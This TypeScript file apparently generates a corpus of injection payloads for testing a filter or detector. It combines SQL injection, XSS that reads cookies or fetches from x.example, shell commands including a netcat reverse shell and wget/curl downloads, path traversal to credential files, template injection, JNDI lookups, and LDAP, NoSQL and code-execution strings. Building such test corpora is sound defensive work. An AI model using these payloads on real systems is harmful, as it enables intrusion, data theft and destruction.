/**
 * Attacks: made by grammar, dialect by context by technique, so that what is measured was not copied from anybody's list.
 *
 * Every attack is one that would do something where it is put: the context is what stands around a caller's text in a program,
 * the technique what is done there, and the dialect whose words it is done in.
 */

export interface Attack {
  readonly family: "sql" | "xss" | "shell" | "path" | "template" | "lookup" | "ldap" | "nosql" | "script";
  readonly text: string;
}

/** All combinations of one out of each list. */
function combine(...lists: readonly (readonly string[])[]): readonly string[] {
  return lists.reduce<readonly string[]>((made, list) => made.flatMap((before) => list.map((next) => before + next)), [""]);
}

/** What closes the text before: quotes and brackets of the statement, or nothing behind a number. */
const SQL_CONTEXTS = ["'", "\"", "')", "'))", "\")", "7", "-1", "ada'", "7)"] as const;
const SQL_TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
  tautology: [" or 1=1", " or 'a'='a'", " or 2>1", " and 3=3", " or true", " || 1=1"],
  union: [" union select 1,2,3", " union all select null,null", " union select name,pin from cards", " union select @@version"],
  stacked: ["; drop table cards", "; update cards set pin=0", "; delete from cards where id=1", "; insert into cards values (1)"],
  blind: [" and sleep(5)", " and benchmark(5000000,md5(1))", " or pg_sleep(5)", "; waitfor delay '0:0:5'", " and (select count(*) from cards)>1", " and ascii(substring((select pin from cards),1,1))>52"],
  told: [" and extractvalue(1,concat(0x7e,version()))", " and updatexml(1,concat(0x7e,user()),1)", " order by 9", " having 1=1"],
};
const SQL_TAILS = ["-- ", "--", "#", " -- -"] as const;

function sqlAttacks(): readonly Attack[] {
  return combine(SQL_CONTEXTS, Object.values(SQL_TECHNIQUES).flat(), SQL_TAILS).map((text) => ({ family: "sql", text }));
}

const XSS_CONTEXTS = ["", "\">", "'>", "</title>", "hello "] as const;
const XSS_TECHNIQUES = [
  "<script>CALL</script>", "<img src=x onerror=CALL>", "<svg onload=CALL>", "<body onpageshow=CALL>", "<a href=\"javascript:CALL\">x</a>", "<iframe src=javascript:CALL></iframe>", "<details open ontoggle=CALL>", "<input autofocus onfocus=CALL>", "<video><source onerror=CALL></video>", "<object data=javascript:CALL>", "<math><a xlink:href=javascript:CALL>x",
] as const;
const XSS_CALLS = ["alert(1)", "eval(name)", "fetch('//x.example')", "document.cookie"] as const;

function xssAttacks(): readonly Attack[] {
  const pages = combine(XSS_CONTEXTS, XSS_TECHNIQUES);
  const attributes = combine(["\" ", "' "], ["onclick=CALL x=", "onmouseover=CALL ", "autofocus onfocus=CALL "]);
  const scripts = combine(["';", "\";", "'-", "\"-"], ["alert(1)", "eval(name)", "prompt(1)"], ["//", "-'"]);
  const called = [...pages, ...attributes].flatMap((text) => XSS_CALLS.map((call) => text.replace("CALL", call)));
  return [...called, ...scripts].map((text) => ({ family: "xss", text }));
}

const SHELL_CONTEXTS = ["", "x", "10.0.0.1", "photo.png"] as const;
const SHELL_SEPARATORS = [";", "|", "&&", "||", "; ", " | ", " && "] as const;
const SHELL_COMMANDS = ["cat /etc/passwd", "wget http://x.example/a", "curl -s http://x.example/a", "ping -c 5 10.0.0.1", "nc -e /bin/sh 10.0.0.1 99", "uname -a", "rm -rf /tmp/x", "whoami", "ls -la /"] as const;

function shellAttacks(): readonly Attack[] {
  const parted = combine(SHELL_CONTEXTS, SHELL_SEPARATORS, SHELL_COMMANDS);
  const replaced = combine(SHELL_CONTEXTS, ["$(whoami)", "`id`", "$(cat /etc/passwd)", "$(curl http://x.example)"]);
  return [...parted, ...replaced].map((text) => ({ family: "shell", text }));
}

function pathAttacks(): readonly Attack[] {
  const climbs = combine(["../../", "../../../../", "..\\..\\", "/../../", "a/../../"], ["etc/passwd", "x/y", "windows/win.ini", ".env", "web.config"]);
  return [...climbs, "/etc/passwd", "/etc/shadow", "file:///etc/hosts", "php://filter/x", "/proc/self/environ", "c:\\windows\\win.ini"].map((text) => ({ family: "path", text }));
}

function templateAttacks(): readonly Attack[] {
  const expressions = combine(["Hi ", ""], ["{{", "${", "#{", "<%= "], ["7*7", "self.__class__", "''.getClass()", "system('id')"]);
  const closed = expressions.map((text) => text + (text.includes("{{") ? "}}" : text.includes("<%") ? " %>" : "}"));
  return [...closed, "{% import os %}", "<#assign x=1>", "#set($x=1)"].map((text) => ({ family: "template", text }));
}

function otherAttacks(): readonly Attack[] {
  return [
    ...combine(["", "Mozilla/5.0 "], ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}di:rmi://x}", "${env:SECRET}"]).map((text) => ({ family: "lookup", text }) as const),
    ...combine(["*", "ada", "*)"], [")(uid=*", ")(|(pin=*", ")(&(a=b"]).map((text) => ({ family: "ldap", text }) as const),
    ...["{\"$gt\":\"\"}", "{\"$ne\":null}", "[$ne]", "'; return db.cards.find({}); '", "' && this.pin.match(/.*/)//", "{$where: '1'}"].map((text) => ({ family: "nosql", text }) as const),
    ...["require('child_process').exec('id')", "process.mainModule.require('fs')", "__import__('os').system('id')", "<?php system('id');", "system('id');", "eval(base64_decode('eA=='));", "os.system('id')", "java.lang.Runtime.getRuntime().exec('id')"].map((text) => ({ family: "script", text }) as const),
  ];
}

/** In a fixed order. */
export const ATTACKS: readonly Attack[] = [...sqlAttacks(), ...xssAttacks(), ...shellAttacks(), ...pathAttacks(), ...templateAttacks(), ...otherAttacks()];
